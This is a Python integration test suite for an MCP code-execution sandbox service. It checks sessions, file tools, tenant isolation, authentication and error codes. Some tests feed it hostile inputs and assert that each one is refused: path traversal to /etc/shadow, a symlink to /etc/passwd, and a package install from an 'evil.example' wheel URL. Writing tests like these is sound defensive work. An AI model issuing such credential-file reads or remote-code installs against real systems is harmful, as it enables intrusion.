"""MCP over streamable HTTP at /mcp on a real `execbox serve` (jail boxes), driven by the mcp SDK's client."""

from __future__ import annotations

import base64
import struct
import zlib
from typing import Any

import httpx
import jsonschema
import pytest

from tests.integration.mcp.conftest import http_client, run_async

pytestmark = pytest.mark.jail

PLOT = """
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
plt.plot([1, 2, 3], [1, 4, 9])
plt.title("squares")
"""


def _text(result: Any) -> str:
    return "\n".join(c.text for c in result.content if c.type == "text")


def _png_size(data: bytes) -> tuple[int, int]:
    """Width and height from a PNG's IHDR, after checking the signature and the chunk CRC."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    length, kind = struct.unpack(">I4s", data[8:16])
    assert kind == b"IHDR" and length == 13
    body = data[16:29]
    assert struct.unpack(">I", data[29:33])[0] == zlib.crc32(b"IHDR" + body)
    return struct.unpack(">II", body[:8])


def test_tools_have_valid_schemas_and_annotations(service) -> None:
    async def go() -> Any:
        async with http_client(service.url, service.tenant_a) as c:
            return (await c.list_tools()).tools

    tools = {t.name: t for t in run_async(go)}
    assert {"run_code", "run_command", "create_session", "close_session", "list_sessions", "read_file",
            "write_file", "list_files", "glob", "grep"} <= set(tools)
    for tool in tools.values():
        jsonschema.Draft202012Validator.check_schema(tool.input_schema)
        assert tool.description and len(tool.description) > 20
        assert tool.annotations is not None
    assert tools["read_file"].annotations.read_only_hint is True
    assert tools["close_session"].annotations.destructive_hint is True
    assert tools["run_code"].annotations.read_only_hint is False
    assert tools["run_code"].input_schema["required"] == ["code"]


def test_python_state_persists_and_javascript_and_bash_run(service) -> None:
    async def go() -> list[Any]:
        async with http_client(service.url, service.tenant_a) as c:
            return [await c.call_tool("run_code", {"code": "data = [3, 1, 2]"}),
                    await c.call_tool("run_code", {"code": "print(sorted(data))"}),
                    await c.call_tool("run_code", {"code": "def main(n):\n    return {'sq': n * n}",
                                                   "arguments": {"n": 7}}),
                    await c.call_tool("run_code", {"code": "console.log([1,2,3].map(x => x * 2).join(','))",
                                                   "language": "javascript"}),
                    await c.call_tool("run_command", {"command": "echo out; echo err >&2; exit 3"}),
                    await c.call_tool("run_code", {"code": "mkdir -p proj && cd proj && n=7", "language": "bash"}),
                    await c.call_tool("run_code", {"code": "echo $n $(basename $PWD)", "language": "bash"})]

    first, second, with_main, js, sh, _, shell = run_async(go)
    assert shell.structured_content["stdout"] == "7 proj\n"  # the session's shell keeps variables and cd
    assert not first.is_error and not second.is_error
    assert second.structured_content["stdout"] == "[1, 2, 3]\n"
    assert first.structured_content["session_id"] == second.structured_content["session_id"]
    assert with_main.structured_content["result"] == {"sq": 49}
    assert 'result: {"sq": 49}' in _text(with_main)
    assert js.structured_content["stdout"] == "2,4,6\n"
    assert sh.structured_content["exit_code"] == 3
    assert sh.structured_content["stdout"] == "out\n" and sh.structured_content["stderr"] == "err\n"
    assert "exit_code: 3" in _text(sh)


def test_plot_arrives_as_png_image_content(service) -> None:
    async def go() -> Any:
        async with http_client(service.url, service.tenant_a) as c:
            return await c.call_tool("run_code", {"code": PLOT, "timeout": 120})

    result = run_async(go)
    assert not result.is_error, _text(result)
    images = [c for c in result.content if c.type == "image"]
    assert len(images) == 1 and images[0].mime_type == "image/png"
    width, height = _png_size(base64.b64decode(images[0].data))
    assert width > 100 and height > 100


def test_file_round_trip_resources_and_traversal_refused(service) -> None:
    async def go() -> dict[str, Any]:
        async with http_client(service.url, service.tenant_a) as c:
            sid = (await c.call_tool("create_session", {})).structured_content["session"]["session_id"]
            out: dict[str, Any] = {"sid": sid}
            out["write"] = await c.call_tool("write_file", {"session_id": sid, "path": "notes/a.txt",
                                                            "content": "alpha\nbeta\ngamma\n"})
            blob = base64.b64encode(bytes(range(256))).decode()
            out["bin"] = await c.call_tool("write_file", {"session_id": sid, "path": "b.bin", "content": blob,
                                                          "encoding": "base64"})
            out["page"] = await c.call_tool("read_file", {"session_id": sid, "path": "notes/a.txt",
                                                          "offset": 1, "limit": 1})
            out["list"] = await c.call_tool("list_files", {"session_id": sid, "recursive": True})
            out["glob"] = await c.call_tool("glob", {"session_id": sid, "pattern": "**/*.txt"})
            out["grep"] = await c.call_tool("grep", {"session_id": sid, "pattern": "gam+a"})
            out["escape"] = await c.call_tool("read_file", {"session_id": sid, "path": "../../etc/shadow"})
            out["absolute"] = await c.call_tool("write_file", {"session_id": sid, "path": "/etc/x", "content": ""})
            await c.call_tool("run_command", {"session_id": sid, "command": "ln -s /etc/passwd link"})
            out["symlink"] = await c.call_tool("read_file", {"session_id": sid, "path": "link"})
            out["resources"] = (await c.list_resources()).resources
            out["text"] = await c.read_resource(f"execbox://sessions/{sid}/files/notes/a.txt")
            out["blob"] = await c.read_resource(f"execbox://sessions/{sid}/files/b.bin")
            out["closed"] = await c.call_tool("close_session", {"session_id": sid})
            out["after"] = await c.call_tool("read_file", {"session_id": sid, "path": "notes/a.txt"})
            return out

    out = run_async(go)
    sid = out["sid"]
    assert out["write"].structured_content["size"] == len("alpha\nbeta\ngamma\n")
    assert out["page"].structured_content["content"].strip() == "beta"
    assert {"notes/a.txt", "b.bin"} <= {f["path"] for f in out["list"].structured_content["files"]}
    assert out["glob"].structured_content["paths"] == ["notes/a.txt"]
    assert out["grep"].structured_content["matches"][0]["line_number"] == 3
    for name in ("escape", "absolute", "symlink"):
        assert out[name].is_error, name
        assert out[name].structured_content["error"]["code"] == "SB002", name
        assert "SB002" in _text(out[name])
    uris = {r.uri for r in out["resources"]}
    assert f"execbox://sessions/{sid}/files/notes/a.txt" in uris
    assert out["text"].contents[0].text == "alpha\nbeta\ngamma\n"
    assert base64.b64decode(out["blob"].contents[0].blob) == bytes(range(256))
    assert not out["closed"].is_error
    assert out["after"].is_error and out["after"].structured_content["error"]["code"] == "SB002"


def test_timeout_is_a_tool_error_with_sb005(service) -> None:
    async def go() -> Any:
        async with http_client(service.url, service.tenant_a) as c:
            return await c.call_tool("run_code", {"code": "while True: pass", "timeout": 1})

    result = run_async(go)
    assert result.is_error
    assert result.structured_content["timed_out"] is True
    assert result.structured_content["metadata"]["error_code"] == "SB005"
    assert "SB005" in _text(result)


def test_truncation_is_reported(service) -> None:
    async def go() -> Any:
        async with http_client(service.url, service.tenant_a) as c:
            return await c.call_tool("run_code", {"code": "print('x' * (3 * 1024 * 1024))"})

    result = run_async(go)
    assert result.structured_content["truncated"] is True
    assert "truncated" in _text(result)


def test_bad_or_absent_token_is_refused(service) -> None:
    for headers in ({}, {"Authorization": "Bearer not-a-token"}):
        r = httpx.post(service.url + "/mcp", headers={**headers, "Accept": "application/json, text/event-stream"},
                       json={"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}})
        assert r.status_code == 401
        assert r.json()["error"]["code"] == "SB002"

    async def go() -> None:
        async with http_client(service.url, "bogus") as c:
            await c.list_tools()

    with pytest.raises(BaseException):  # noqa: B017 - the SDK surfaces the 401 as its own transport error
        run_async(go)


def test_tenant_a_cannot_reach_tenant_b_session(service) -> None:
    async def make_b() -> str:
        async with http_client(service.url, service.tenant_b) as c:
            sid = (await c.call_tool("create_session", {"session_id": "b-private"})).structured_content
            await c.call_tool("write_file", {"session_id": "b-private", "path": "secret.txt", "content": "b only"})
            return sid["session"]["session_id"]

    async def probe_a(sid: str) -> dict[str, Any]:
        async with http_client(service.url, service.tenant_a) as c:
            return {"read": await c.call_tool("read_file", {"session_id": sid, "path": "secret.txt"}),
                    "list": await c.call_tool("list_sessions", {}),
                    "close": await c.call_tool("close_session", {"session_id": sid}),
                    "resources": (await c.list_resources()).resources}

    sid = run_async(make_b)
    out = run_async(probe_a, sid)
    assert out["read"].is_error and "secret" not in _text(out["read"]).replace("secret.txt", "")
    assert sid not in {s["session_id"] for s in out["list"].structured_content["sessions"]}
    assert out["close"].is_error
    assert not any("b-private" in r.uri for r in out["resources"])
    assert service.app.state.services.sessions.get("tenant-b", sid) is not None  # B's session untouched


def test_handshake_client_session_maps_to_one_execbox_session_closed_on_end(service) -> None:
    async def go() -> str:
        async with http_client(service.url, service.tenant_a, mode="legacy") as c:
            r1 = await c.call_tool("run_code", {"code": "k = 'kept'"})
            r2 = await c.call_tool("run_code", {"code": "print(k)"})
            assert r2.structured_content["stdout"] == "kept\n"
            assert r1.structured_content["session_id"] == r2.structured_content["session_id"]
            return r1.structured_content["session_id"]

    sid = run_async(go)
    assert service.app.state.services.sessions.get("tenant-a", sid) is None  # closed when the MCP session ended


def test_install_packages_tool_names_why_it_cannot_install(service) -> None:
    """The MCP tool reaches the provider's install (the success path is tested over HTTP and the
    library in tests/integration/egress/test_install.py): bad input and a box without network."""
    async def go() -> list[Any]:
        async with http_client(service.url, service.tenant_a) as c:
            return [await c.call_tool("install_packages", {"pip": ["https://evil.example/x.whl"]}),
                    await c.call_tool("install_packages", {"pip": ["httpx"]})]

    bad, offline = run_async(go)
    assert bad.is_error and bad.structured_content["error"]["code"] == "SB002"
    assert "https://evil.example/x.whl" in bad.structured_content["error"]["message"]
    assert offline.is_error and "without network" in offline.structured_content["error"]["message"]


def test_binary_read_points_to_its_resource_and_an_unknown_tool_is_a_protocol_error(service) -> None:
    from mcp.shared.exceptions import MCPError

    async def go() -> dict[str, Any]:
        async with http_client(service.url, service.tenant_a) as c:
            sid = (await c.call_tool("create_session", {})).structured_content["session"]["session_id"]
            blob = base64.b64encode(b"\x00\x01binary").decode()
            await c.call_tool("write_file", {"session_id": sid, "path": "b.bin", "content": blob,
                                             "encoding": "base64"})
            out: dict[str, Any] = {"sid": sid}
            out["read"] = await c.call_tool("read_file", {"session_id": sid, "path": "b.bin"})
            uri = out["read"].structured_content["error"]["details"].get("resource")
            out["resource"] = await c.read_resource(uri) if uri else None
            try:
                await c.call_tool("no_such_tool", {})
            except MCPError as e:
                out["unknown"] = e
            out["still"] = await c.call_tool("run_code", {"session_id": sid, "code": "print(2)"})
            await c.call_tool("close_session", {"session_id": sid})
            return out

    out = run_async(go)
    uri = f"execbox://sessions/{out['sid']}/files/b.bin"
    assert out["read"].is_error and uri in _text(out["read"]) and "read_binary" not in _text(out["read"])
    assert base64.b64decode(out["resource"].contents[0].blob) == b"\x00\x01binary"
    err = out["unknown"]
    assert err.error.code == -32602 and "no_such_tool" in err.error.message, err
    assert "run_code" in err.error.data["tools"]
    assert out["still"].structured_content["stdout"] == "2\n"


def test_a_mistyped_session_id_is_an_error_not_a_new_empty_workspace(service) -> None:
    async def go() -> dict[str, Any]:
        async with http_client(service.url, service.tenant_a) as c:
            sid = (await c.call_tool("create_session", {})).structured_content["session"]["session_id"]
            await c.call_tool("write_file", {"session_id": sid, "path": "mine.txt", "content": "x"})
            out: dict[str, Any] = {"sid": sid}
            for tool, args in (("run_code", {"code": "print(1)"}), ("run_command", {"command": "ls"}),
                               ("install_packages", {"pip": ["x"]})):
                out[tool] = await c.call_tool(tool, {**args, "session_id": sid + "-typo"})
            out["listed"] = (await c.call_tool("list_sessions", {})).structured_content["sessions"]
            out["own"] = await c.call_tool("run_command", {"session_id": sid, "command": "ls"})
            await c.call_tool("close_session", {"session_id": sid})
            return out

    out = run_async(go)
    for tool in ("run_code", "run_command", "install_packages"):
        r = out[tool]
        assert r.is_error and r.structured_content["error"]["details"]["session_id"] == out["sid"] + "-typo", tool
        assert "create_session" in _text(r)
    assert out["sid"] + "-typo" not in {s["session_id"] for s in out["listed"]}
    assert "mine.txt" in out["own"].structured_content["stdout"].split()
